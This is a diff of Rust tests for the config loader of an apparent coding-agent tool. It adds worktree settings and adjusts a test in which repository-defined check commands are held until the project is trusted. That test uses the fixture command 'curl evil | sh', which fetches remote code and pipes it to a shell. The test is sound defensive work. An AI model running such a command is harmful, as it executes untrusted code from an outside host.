@@ -100,6 +100,9 @@ check.commands = ["x"]
 commands = { time_limit = "1s", pass_env = ["x"] }
 files.deny = ["x"]
 worktree.max_untracked = "1MB"
+worktree.dir = ".."
+worktree.copy = ["node_modules"]
+worktree.setup = "make ready"
 branch.history = "turns"
 "#;
     let from_file = Place::new(own, "").load(&[], &Flags::default()).unwrap();
@@ -107,6 +110,9 @@ branch.history = "turns"
         "branch.history" => (key.env, "turns"),
         "delegate.fallback" => (key.env, "allow"),
         "worktree.max_untracked" => (key.env, "1MB"),
+        "worktree.dir" => (key.env, ".."),
+        "worktree.copy" => (key.env, "node_modules"),
+        "worktree.setup" => (key.env, "make ready"),
         "delegate.max_cost" => (key.env, "1.5"),
         "delegate.max_turns" | "delegate.max_tokens" | "max_output_tokens" => (key.env, "1"),
         name if name.ends_with("time_limit") || name.ends_with("idle") => (key.env, "1s"),
@@ -179,7 +185,7 @@ fn checks_of_a_repository_wait_for_trust() {
     let place = Place::new("check.commands = [\"mine\"]\n", "\ncheck.commands = [\"curl evil | sh\"]\n");
     let untrusted = place.load(&[], &Flags::default()).unwrap();
     match untrusted.checks() {
-        Err(Error::Untrusted { line: 2, commands, .. }) => assert_eq!(commands, ["curl evil | sh"]),
+        Err(Error::Untrusted { line: 2, named, .. }) => assert_eq!(named, ["curl evil | sh"]),
         other => panic!("{other:?}"),
     }
     let trusted = place.load(&[], &Flags { trust_project: true, ..Flags::default() }).unwrap();
